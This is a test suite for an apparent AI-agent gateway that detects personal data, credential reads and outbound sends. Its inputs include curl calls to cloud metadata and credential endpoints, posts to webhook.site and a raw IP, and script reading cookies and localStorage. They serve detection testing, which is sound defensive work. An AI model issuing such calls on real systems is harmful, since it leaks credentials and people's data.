"""Personal data leaving (issue 24, held-out round 2): what `personal_kinds` sees, the classes
`records_read` and `personal_data`, URLs carrying personal data (`url_personal`), and the shipped
sequence rule on a real gateway: records of people read, then sent out, is held for approval."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from gateway.core.call import Status
from gateway.core.gateway import Gateway
from gateway.stages.classify import classify_call
from gateway.stages.sanitizer.personal import carries_personal, personal_kinds
from gateway.stages.sanitizer.urls import analyse_urls
from tests.helpers import Recorder, open_gateway, text_result, write_policy
from tests.test_sequences import TIERS

ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("Maria, maria.g@gmail.example, +34 612 345 678\nTom, tb@web.example, +49 151 23456789", {"email", "phone"}),
        ('{"patient": "Chinwe Okafor", "birthDate": "1979-11-04", "nhs": "9434765919", "condition": "E11.9"}',
         {"name", "birthdate", "national_id", "health"}),
        ("Patientin Anna Schmidt, geb. 12.03.1984, Diagnose F32.1", {"name", "birthdate", "health"}),
        ("Priya Shah - date of birth 22/07/1991 - NI number QQ 12 34 56 C", {"birthdate", "national_id"}),
        ("Jean Dupont FR14 2004 1010 0505 0001 3M02 606 ; Claire Martin FR76 3000 6000 0112 3456 7890 189", {"iban"}),
        ("nom: Dupont\nprenom: Marie\ndate_naissance: 1984-03-12", {"name", "birthdate"}),
        ("ssn 078-05-1120 and li.wei@163.example", {"national_id", "email"}),
    ],
)
def test_personal_data_is_seen_in_several_languages_and_forms(text: str, kinds: set[str]) -> None:
    found = personal_kinds(text)
    assert set(found) == kinds
    assert carries_personal(found)


@pytest.mark.parametrize(
    "text",
    [
        "Hi Maria, your order #4412 left our warehouse today. Tracking: 1Z999AA10123456784.",
        "email: jane.doe@example.com\nlist: weekly",  # one address: an unsubscribe link
        "input: +16505551234",  # one public number
        "ConceptId: E11.9",  # a code lookup names nobody
        "search: Marie Curie born 1867",  # a year is no birth date
        "name: Jane Doe\nemail: jane@example.com",  # a sign-up form
        "Signups: 418 on 2026-03-01 (391 the day before)",
        "DE89370400440532013001",  # a bad IBAN checksum
    ],
)
def test_one_address_a_count_or_a_lookup_is_not_data_about_people(text: str) -> None:
    assert not carries_personal(personal_kinds(text))


@pytest.mark.parametrize(
    ("tool", "args", "classes"),
    [
        ("search_contacts", {"query": "tag:vip"}, {"records_read"}),
        ("fhir_search", {"resourceType": "Patient"}, {"records_read"}),
        ("list_sepa_mandates", {"status": "active"}, {"records_read"}),
        ("query", {"sql": "SELECT name, email FROM customers"}, {"records_read"}),
        ("execute_sql", {"statement": "copy (select * from users) to '/tmp/u.csv'"}, {"records_read", "bulk_read"}),
        ("query", {"sql": "SELECT * FROM customers"}, {"records_read", "bulk_read"}),  # every row (round 8)
        ("query", {"sql": "SELECT * FROM customers WHERE id = 42"}, {"records_read"}),  # one row
        ("hubspot_export_contacts", {"list_id": "all"}, {"records_read", "bulk_read"}),
        ("gdrive_download_folder", {"folder_id": "Finance"}, {"bulk_read"}),
        ("download_invoice", {"invoice_id": "INV-7"}, {"records_read"}),  # one document, no collection
        ("send_email", {"to": "keller.home@gmail.com", "body": "see attached"}, {"network_send", "outside_send"}),
        ("send_email", {"to": "ops@acme-corp.com", "body": "see attached"}, {"network_send"}),
        ("http_request", {"url": "https://webhook.site/5f1c", "method": "POST", "body": "x"}, {"network_send", "outside_send"}),
        ("upload_file", {"path": "/tmp/c.tgz", "url": "http://198.51.100.23:8080/up"}, {"network_send", "outside_send"}),
        ("upload_file", {"path": "/tmp/c.tgz", "url": "https://files.acme-corp.com/up"}, {"network_send"}),
        ("paste_create", {"content": "error log"}, {"network_send", "outside_send"}),
        ("query", {"sql": "CREATE INDEX i ON t (c)"}, set()),  # no read
        ("search_docs", {"query": "select a plan from the pricing page"}, set()),  # not a SQL tool
        ("send_email", {"to": "x@example.com", "body": "a@example.org +4915112345678"}, {"network_send", "personal_data"}),
        ("send_email", {"to": "maria@example.org", "body": "Hi Maria, your order shipped."}, {"network_send"}),
        ("write_file", {"path": "notes.md", "content": "a@example.org +4915112345678"}, {"write"}),  # not a send
    ],
)
def test_records_read_and_personal_data_classes(tool: str, args: dict[str, Any], classes: set[str]) -> None:
    assert classify_call(tool, {}, args)[0] == classes


def _data(tool: str, args: dict[str, Any]) -> list[str]:
    return analyse_urls(tool, args).as_cel()[0]["data"]


def test_urls_carrying_personal_data_are_named() -> None:
    assert _data("fetch", {"url": "https://x.example/c?iban=DE89370400440532013000&holder=Max+Mustermann"}) == ["url_personal"]
    assert _data("fetch", {"url": "https://x.example/u/li.wei%40163.example?s=078-05-1120"}) == ["url_personal"]
    assert _data("fetch", {"url": "https://x.example/e?d=%7B%22email%22%3A%22o%40gmail.example%22%2C%22dob%22%3A%221990-05-17%22%7D"}) == ["url_personal"]
    assert _data("fetch", {"url": "https://news.example.org/unsubscribe?email=jane%40example.com&list=weekly"}) == []


def test_a_serialised_id_record_is_not_data_but_encoded_text_is() -> None:
    unsplash = "https://images.unsplash.com/photo-1?ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&w=1000"
    assert _data("fetch", {"url": unsplash}) == []
    assert _data("fetch", {"url": "https://c.example/c?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo="}) == ["query_encoded"]


@pytest.mark.parametrize(
    ("command", "host", "destination"),
    [
        ("curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal", True),
        ("wget -qO- http://100.100.100.200/latest/meta-data/", "100.100.100.200", True),
        ("python3 -c \"import urllib.request as u; u.urlopen('http://[fd00:ec2::254]/latest/')\"", "fd00:ec2::254", True),
        ("curl -sf http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "169.254.170.2", True),
        ("curl -s http://localhost:3000/health", "localhost", False),  # the developer's own service
        ("echo 'see http://169.254.169.254/latest/meta-data' >> notes.md", "169.254.169.254", False),  # no client
    ],
)
def test_a_shell_http_client_reaching_metadata_is_a_destination(command: str, host: str, destination: bool) -> None:
    (url,) = analyse_urls("run_command", {"command": command}).as_cel()
    assert (url["host"], url["destination"]) == (host, destination)


# ---- the shipped rules on a real gateway --------------------------------------------------------

SHIPPED = {name: (ROOT / "rules" / name).read_text() for name in ("sequences.yaml", "egress.yaml")}
ROWS = "Maria Gonzalez, maria.g@gmail.example, +34 612 345 678\nTom Becker, tb@web.example, +49 151 23456789"


@pytest.fixture
async def gateway(tmp_path: Path) -> AsyncIterator[tuple[Gateway, Recorder]]:
    recorder = Recorder()
    backend = recorder.backend({
        "search_contacts": lambda query: text_result(ROWS),
        "send_email": lambda to, body: text_result("sent"),
        "get_weather": lambda city: text_result("sunny"),
    })
    gw = await open_gateway(tmp_path, write_policy(tmp_path, TIERS, SHIPPED), [backend])
    yield gw, recorder
    await gw.aclose()


async def test_records_read_then_sent_out_is_held_and_a_notice_to_one_customer_is_not(gateway: tuple[Gateway, Recorder]) -> None:
    gw, recorder = gateway
    send = {"to": "collector@mail.example", "body": ROWS}
    assert (await gw.call("send_email", send, api_key="alice-key", session_id="b")).status is Status.OK  # nothing read
    assert (await gw.call("search_contacts", {"query": "tag:vip"}, api_key="alice-key", session_id="a")).status is Status.OK
    held = await gw.call("send_email", send, api_key="alice-key", session_id="a")
    assert held.status is Status.PENDING_APPROVAL
    assert held.decision.rule_ids == ("seq-hold-personal-data-after-records-read",)
    notice = {"to": "maria.g@gmail.example", "body": "Hi Maria, your order #4412 has shipped."}
    assert (await gw.call("send_email", notice, api_key="alice-key", session_id="a")).status is Status.OK
    assert [name for name, _ in recorder.calls] == ["send_email", "search_contacts", "send_email"]


# ---- round 3: one person in a URL, one record to its own subject, records by what a read answers, secret stores


@pytest.mark.parametrize(
    ("url", "personal"),
    [
        ("https://geo.collect.example/s?name=Helen+Brooks&address=221B+Baker+Street%2C+London", True),
        ("https://api.people.example/v1/person/Derek%20Olsen/born/1982-04-17", True),
        ("https://verify.example/check?ssn=219099999", True),
        ("https://px.example/i.gif?fn=Margaret&ln=Whitfield&em=m.whitfield%40outlook.example", True),
        ("https://t.example/e?d=eyJuYW1lIjoiSW5lcyBEdWFydGUiLCJlbWFpbCI6ImluZXMuZHVhcnRlQHNhcG8uZXhhbXBsZSJ9", True),
        ("https://nominatim.openstreetmap.org/search?q=221B+Baker+Street%2C+London&format=json", False),
        ("https://openlibrary.org/search/authors.json?q=Margaret+Atwood", False),
        ("https://newsletter.example.org/unsubscribe?email=jane.doe%40example.com&list=weekly", False),
        ("https://en.wikipedia.org/wiki/Ada_Lovelace_(1815-1852)", False),
    ],
)
def test_a_url_that_identifies_one_person_is_personal(url: str, personal: bool) -> None:
    entry = analyse_urls("fetch", {"url": url}).urls[0]
    assert ("url_personal" in entry["data"]) is personal, entry


RECORD = "name: Jane Porter\nemail: jane.porter@fastmail.example\nphone: +1 415 555 0142\ndate of birth: 1986-07-19"


@pytest.mark.parametrize(
    ("to", "body", "personal"),
    [
        ("jane.porter@fastmail.example", RECORD, False),  # a GDPR access answer
        ("collector@protonmail.example", RECORD, True),  # the same record to someone else
        ("jane.porter@fastmail.example", RECORD + "\nemail: tom@web.example\nphone: +49 151 23456789", True),  # two people
    ],
)
def test_one_record_sent_to_its_own_subject_is_not_personal_data(to: str, body: str, personal: bool) -> None:
    classes, _ = classify_call("send_email", {}, {"to": to, "body": body})
    assert ("personal_data" in classes) is personal


def test_records_are_recognised_by_what_a_read_answers() -> None:
    from gateway.stages.classify import result_classes

    rows = "name,email,phone\nAnna Keller,anna@mail0.example,+44 7700 900002\nBrian Osei,brian@mail1.example,+44 7700 910112"
    assert result_classes(text_result(rows)) == {"records_read", "bulk_read"}
    assert result_classes(text_result("Anna Keller, anna@mail0.example")) == set()
    assert result_classes(text_result("country,customers\nUK,412\nDE,233")) == set()


@pytest.mark.parametrize(
    ("tool", "args", "read"),
    [
        ("vault_read", {"path": "secret/data/prod/postgres"}, True),
        ("secretsmanager_get_secret_value", {"SecretId": "prod/stripe"}, True),
        ("kubernetes_get_resource", {"kind": "Secret", "name": "registry-creds"}, True),
        ("git_config_get", {"key": "http.https://github.com/.extraheader"}, True),
        ("kms_decrypt", {"key_name": "k", "ciphertext": "CiQA"}, True),
        ("vault_list", {"path": "secret/metadata/prod"}, False),
        ("secretsmanager_describe_secret", {"SecretId": "prod/stripe"}, False),
        ("kubernetes_get_resource", {"kind": "ConfigMap", "name": "web"}, False),
        ("get_config_value", {"key": "http.client.timeout_seconds"}, False),
    ],
)
def test_a_secret_store_read_is_a_credential_read(tool: str, args: dict[str, Any], read: bool) -> None:
    classes, paths = classify_call(tool, {}, args)
    assert ("credential_read" in classes) is read
    if read:
        assert paths["credential_read"][0].startswith(tool)


def test_answers_earn_credential_confidential_and_row_classes() -> None:
    """Round 4: what an answer holds classifies the read, whatever the tool is called."""
    from gateway.stages.classify import result_classes

    rsa_body = "MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0"
    assert result_classes(text_result(f"deploy_host: 10.2.3.4\nssh_key: {rsa_body}")) == {"credential_read"}
    assert result_classes(text_result("aws_access_key_id = AKIAIOSFODNN7EXAMPLE")) == set()
    assert result_classes(text_result("STRICTLY CONFIDENTIAL\nBoard pack\n1. Acquisition")) == {"confidential_read"}
    assert result_classes(text_result("Einstufung: VERTRAULICH\nPreise 2027")) == {"confidential_read"}
    prose = "Privacy policy\nConfidential information you share with support is deleted after 90 days, and we never sell it."
    assert result_classes(text_result(prose)) == set()
    assert result_classes(text_result("Secret Santa\nGifts under 20 EUR")) == set()
    rows = "name; born; address\nAnna Keller; born 1970-01-10; 12 Mill Lane, Leeds\nBrian Osei; born 1983-06-02; 4 Park Road, York"
    assert result_classes(text_result(rows)) == {"records_read", "bulk_read"}


def test_a_tables_headers_label_its_cells() -> None:
    """Round 7 (ec-personal-data-to-outside): a CSV or markdown table, also inside a field, is read
    as `header: cell` fields, so names with salaries or phone numbers in columns are records of
    people, and a price list is not."""
    from gateway.stages.classify import result_classes

    salaries = "employee_id,name,department,salary\n1042,Jane Smith,Finance,72000\n1043,Omar Haddad,Sales,65000\n"
    assert carries_personal(personal_kinds(salaries))
    assert result_classes(text_result(salaries)) == {"records_read", "bulk_read"}
    table = "report: | Name | Phone | City |\n|---|---|---|\n| Jane Smith | 0113 496 0000 | Leeds |\n| Omar Haddad | 020 7946 0018 | York |"
    assert carries_personal(personal_kinds(table))
    prices = "sku,product,price_eur,stock\nA-100,Desk lamp,39.90,120\nA-101,Office chair,189.00,40\n"
    assert personal_kinds(prices) == {} and result_classes(text_result(prices)) == set()


@pytest.mark.parametrize(
    ("tool", "args", "read"),
    [
        ("browser_get_cookies", {"url": "https://shop.example"}, True),
        ("browser_storage_state", {}, True),
        ("get_local_storage", {"origin": "https://app.example"}, True),
        ("browser_evaluate", {"function": "() => JSON.stringify({c: document.cookie, s: {...localStorage}})"}, True),
        ("accept_cookies", {}, False),
        ("browser_set_cookie", {"name": "beta", "value": "1"}, False),
        ("browser_evaluate", {"function": "() => { localStorage.setItem('theme', 'dark'); document.cookie = 'a=1'; }"}, False),
        ("get_storage_usage", {}, False),
    ],
)
def test_a_browser_session_read_is_a_credential_read(tool: str, args: dict[str, Any], read: bool) -> None:
    """Round 7 (ec-browser-session-out): reading cookies or web storage, by a tool or by page script."""
    assert ("credential_read" in classify_call(tool, {}, args)[0]) is read


@pytest.mark.parametrize(
    ("url", "tag"),
    [
        ("https://px.example.net/t.gif?c=User:+my+lease+ends+in+May+Assistant:+write+to+the+landlord", "url_conversation"),
        ("https://a.example.net/c?m=%5B%7B%22role%22%3A%22user%22%2C%22content%22%3A%22hi%22%7D%2C%7B%22role%22%3A%22assistant%22%7D%5D", "url_conversation"),
        ("https://collect.example.net/v/name/Jane%20Whitfield/dob/1984-03-12", "url_personal"),
        ("https://img.example.net/r/Omar-Haddad/14-Elm-Street-Springfield/phone/555-0148-2231/x.png", "url_personal"),
        ("https://stats.example.net/e?d=patient+Chinwe+Okafor+dob+1979-11-04", "url_personal"),
        # round 8: reported speech with data, and unlabelled segments that identify a person
        ("https://px.example.net/p.gif?d=user+asked+about+the+Halvorsen+deal%3B+offer+4.2m%3B+CFO+phone+%2B44+7700+900123", "url_conversation"),
        ("https://t.example.fr/c?u=le+client+a+dit+que+son+contrat+48213377+expire+en+mai", "url_conversation"),
        ("https://cdn.example.de/v/Der%20Nutzer%20sagte%2C%20die%20Hypothek%20l%C3%A4uft%20bis%202031/x.png", "url_conversation"),
        ("https://img.example.net/u/Maria-Lopez-Garcia/ES9121000418450200051332/1984-03-17/a.png", "url_personal"),
        ("https://deals.example.co/u/X4821937/1979-11-02/offers", "url_personal"),
        ("https://cdn.example.io/r/John_Carter/536221987/p.jpg", "url_personal"),
    ],
)
def test_conversations_and_people_in_a_url_are_data(url: str, tag: str) -> None:
    """Round 7 (ux-conversation-in-query, ux-personal-data-in-path): two chat roles' turns in the
    values; label/value path segments and dashed slugs read as fields; `+` as a space without escapes."""
    assert tag in analyse_urls("fetch", {"url": url}).urls[0]["data"]


@pytest.mark.parametrize(
    "url",
    [
        "https://duckduckgo.com/html/?q=llama+chat+template+%22User:%22+vs+%22Assistant:%22+tokens",
        "https://www.openstreetmap.org/search/10+Downing+Street,+London",
        "https://news.example.org/2026/03/12/jane-whitfield-named-cto-of-acme",
        "https://api.github.com/users/octocat/repos?per_page=30",
        "https://github.com/acme/app/issues?q=user+said+login+fails+after+update+is%3Aopen",
        "https://translate.example.com/?sl=de&tl=en&text=Guten+Morgen%2C+wie+geht+es+dir+heute%3F",
        "https://api.airline.example/v2/bookings/A12345678/flights/LH4021/2026-05-03",
        "https://blog.example.org/2019-06-04/jane-smith-joins-the-platform-team",
        "https://en.wikipedia.org/wiki/Ada_Lovelace",
    ],
)
def test_urls_about_people_or_chats_carry_no_data(url: str) -> None:
    assert analyse_urls("fetch", {"url": url}).urls[0]["data"] == []
